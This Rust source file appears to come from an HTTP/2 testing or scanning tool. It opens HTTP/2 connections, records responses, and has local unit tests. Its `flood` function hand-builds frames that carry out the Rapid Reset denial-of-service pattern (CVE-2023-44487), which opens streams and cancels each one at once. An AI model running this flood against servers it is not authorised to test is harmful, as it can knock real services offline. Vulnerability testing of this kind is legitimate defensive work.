//! HTTP/2, where only the answers are looked at: a library makes the requests. What no library
//! would send is made by hand ([`flood`]).

use std::fmt::Write as _;
use std::future::poll_fn;
use std::io;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use h2::{Reason, RecvStream};
use http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::AbortHandle;
use tokio::time::{Instant, timeout, timeout_at};

use super::socket::{CONNECT, Socket};
use super::tape::{Head, Tape};
use super::target::Target;
use super::tls::is_no_protocol;

/// What a client begins with, and settings in which nothing is set (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// How long a server may take to say that it speaks HTTP/2.
const SETTINGS: Duration = Duration::from_secs(3);

/// Why there is no connection.
#[derive(Debug)]
pub(crate) enum Refused {
    /// The server speaks no HTTP/2.
    NotSpoken,
    Failed(io::Error),
}

/// Why there is no answer.
#[derive(Debug)]
pub(crate) enum Unanswered {
    /// The head breaks the rules.
    Malformed,
    Failed(String),
    Late,
}

/// A connection. Dropped, it is closed.
#[derive(Debug)]
pub(crate) struct Http2 {
    requests: SendRequest<Bytes>,
    start: Instant,
    driving: AbortHandle,
}

impl Drop for Http2 {
    fn drop(&mut self) {
        self.driving.abort();
    }
}

impl Http2 {
    /// Connects: by ALPN, or in the clear by prior knowledge. `window` is how many bytes of each
    /// answer may come before they are asked for.
    pub(crate) async fn open(target: &Target, window: u32) -> Result<Self, Refused> {
        let start = Instant::now();
        let socket = open(target).await?;
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(window).enable_push(false);
        let failed = |error| Refused::Failed(io::Error::other(error));
        let (requests, connection) = builder.handshake(socket).await.map_err(failed)?;
        // How it ended is told by the requests on it.
        let driving = tokio::spawn(async move { drop(connection.await) }).abort_handle();
        Ok(Self { requests, start, driving })
    }

    /// Asks; `shown` is the request as evidence has it.
    pub(crate) async fn ask(
        &mut self,
        request: Request<()>,
        shown: Vec<u8>,
        deadline: Instant,
    ) -> Result<Stream, Unanswered> {
        let answering = async {
            poll_fn(|cx| self.requests.poll_ready(cx)).await?;
            self.requests.send_request(request, true)?.0.await
        };
        let answer = match timeout_at(deadline, answering).await {
            Ok(Ok(answer)) => answer,
            Ok(Err(error)) => {
                let is_ours = error.is_library() && error.is_reset();
                return Err(if is_ours && error.reason() == Some(Reason::PROTOCOL_ERROR) {
                    Unanswered::Malformed
                } else {
                    Unanswered::Failed(error.to_string())
                });
            }
            Err(_) => return Err(Unanswered::Late),
        };
        let (parts, body) = answer.into_parts();
        let mut text = format!("HTTP/2 {}\r\n", parts.status.as_u16());
        let mut headers = Vec::new();
        for (name, value) in &parts.headers {
            let value = String::from_utf8_lossy(value.as_bytes()).into_owned();
            // Writing to a string cannot fail.
            let _ = write!(text, "{name}: {value}\r\n");
            headers.push((name.as_str().to_owned(), value));
        }
        let head = Head { status: parts.status.as_u16(), headers, text };
        let tape = Tape::of_head(shown, head, self.start.elapsed());
        Ok(Stream { body, start: self.start, tape })
    }
}

/// An answer on its way.
#[derive(Debug)]
pub(crate) struct Stream {
    body: RecvStream,
    start: Instant,
    pub(crate) tape: Tape,
}

impl Stream {
    /// Reads until something is there, or the end, or the deadline; whether it is there.
    pub(crate) async fn until(
        &mut self,
        deadline: Instant,
        is_there: impl Fn(&Tape) -> bool,
    ) -> bool {
        while !is_there(&self.tape) && self.tape.end.is_none() {
            let Ok(read) = timeout_at(deadline, self.body.data()).await else { break };
            let at = self.start.elapsed();
            match read {
                Some(Ok(bytes)) => {
                    // Fails only if more is released than came.
                    drop(self.body.flow_control().release_capacity(bytes.len()));
                    self.tape.put(&bytes, at);
                }
                Some(Err(_)) => self.tape.close(at, true),
                None => self.tape.close(at, false),
            }
        }
        is_there(&self.tape)
    }
}

/// A socket whose server has said that it speaks HTTP/2.
async fn open(target: &Target) -> Result<Socket, Refused> {
    if !target.is_https() && !takes_preface(target).await.map_err(Refused::Failed)? {
        return Err(Refused::NotSpoken);
    }
    match Socket::open(target, b"h2", None).await {
        Ok(socket) if target.is_https() && socket.protocol() != Some(b"h2") => {
            Err(Refused::NotSpoken)
        }
        Ok(socket) => Ok(socket),
        Err(error) if is_no_protocol(&error) => Err(Refused::NotSpoken),
        Err(error) => Err(Refused::Failed(error)),
    }
}

/// Whether a server answers the preface with settings, as it must if it knows it (RFC 9113, section
/// 3.4).
async fn takes_preface(target: &Target) -> io::Result<bool> {
    let mut socket = Socket::open(target, b"h2", None).await?;
    let mut frame = [0; 9];
    let asking = async {
        socket.write_all(PREFACE).await?;
        socket.read_exact(&mut frame).await
    };
    let is_frame = matches!(timeout(SETTINGS, asking).await, Ok(Ok(_)));
    Ok(is_frame && frame[3] == 4 && frame[5..] == [0; 4])
}

/// Makes requests and takes each of them back at once (CVE-2023-44487).
pub(crate) async fn flood(
    target: &Target,
    headers: &[(String, Vec<u8>)],
    times: u32,
) -> Result<(), Refused> {
    let mut socket = open(target).await?;
    let block = header_block(target, headers);
    let mut bytes = PREFACE.to_vec();
    for time in 0..times {
        let stream = time * 2 + 1;
        // END_STREAM and END_HEADERS.
        frame(&mut bytes, 1, 0x5, stream, &block);
        // CANCEL.
        frame(&mut bytes, 3, 0, stream, &8_u32.to_be_bytes());
    }
    let writing = async {
        socket.write_all(&bytes).await?;
        socket.flush().await
    };
    // A server that hangs up meanwhile has seen what this is.
    drop(timeout(CONNECT, writing).await);
    // It is given the time to take them in.
    let mut answer = vec![0; 64 << 10];
    let moment = Instant::now() + Duration::from_millis(500);
    while matches!(timeout_at(moment, socket.read(&mut answer)).await, Ok(Ok(1..))) {}
    Ok(())
}

/// A frame (RFC 9113, section 4.1). Payloads here are shorter than 16 KiB.
fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("it is short").to_be_bytes();
    bytes.extend_from_slice(&len[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// A request's headers, as literals without indexing (RFC 7541, section 6.2.2).
fn header_block(target: &Target, headers: &[(String, Vec<u8>)]) -> Vec<u8> {
    // From the static table: `:method: GET`, `:scheme`, `:path`, `:authority`.
    let mut block = vec![0x82, if target.is_https() { 0x87 } else { 0x86 }, 0x04];
    text(&mut block, target.path().as_bytes());
    block.push(0x01);
    text(&mut block, target.authority().as_bytes());
    for (name, value) in headers {
        block.push(0);
        text(&mut block, name.to_ascii_lowercase().as_bytes());
        text(&mut block, value);
    }
    block
}

/// A text with its length before it (RFC 7541, sections 5.1 and 5.2).
fn text(block: &mut Vec<u8>, text: &[u8]) {
    let mut len = text.len();
    if len < 127 {
        block.push(u8::try_from(len).expect("it is less than 127"));
    } else {
        block.push(127);
        len -= 127;
        while len >= 128 {
            block.push(u8::try_from(len % 128 + 128).expect("it is less than 256"));
            len /= 128;
        }
        block.push(u8::try_from(len).expect("it is less than 128"));
    }
    block.extend_from_slice(text);
}

#[cfg(test)]
mod tests {
    use tokio::net::TcpListener;

    use super::{flood, open};
    use crate::wire::target::Target;

    #[tokio::test]
    async fn a_request_by_hand_is_one_that_a_library_reads() {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("an address");
        let serving = tokio::spawn(async move {
            // The first connection only asks whether HTTP/2 is spoken.
            let (socket, _) = listener.accept().await.expect("a client");
            drop(h2::server::handshake(socket).await);
            let (socket, _) = listener.accept().await.expect("a client");
            let mut connection = h2::server::handshake(socket).await.expect("a preface");
            connection.accept().await.expect("a request").expect("nothing wrong with it").0
        });
        let target = Target::new(&format!("http://{address}/events?channel=a")).expect("a URL");
        let long = vec![b'x'; 300];
        let headers = [("X-Long".to_owned(), long.clone()), ("Accept".to_owned(), b"a".to_vec())];
        flood(&target, &headers, 1).await.expect("it is spoken");
        let request = serving.await.expect("no panic");
        assert_eq!(request.uri().to_string(), target.shown());
        assert_eq!(request.headers()["x-long"].as_bytes(), long);
        assert_eq!(request.headers()["accept"], "a");
    }

    #[tokio::test]
    async fn a_server_that_speaks_only_http1_is_told_from_one_that_is_not_there() {
        use tokio::io::AsyncWriteExt;

        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let target = format!("http://{}/", listener.local_addr().expect("an address"));
        let target = Target::new(&target).expect("a URL");
        let serving = tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.expect("a client");
            socket.write_all(b"HTTP/1.1 400 Bad Request\r\n\r\n").await.expect("it listens");
        });
        assert!(matches!(open(&target).await, Err(super::Refused::NotSpoken)));
        serving.await.expect("no panic");
        assert!(matches!(open(&target).await, Err(super::Refused::Failed(_))));
    }
}
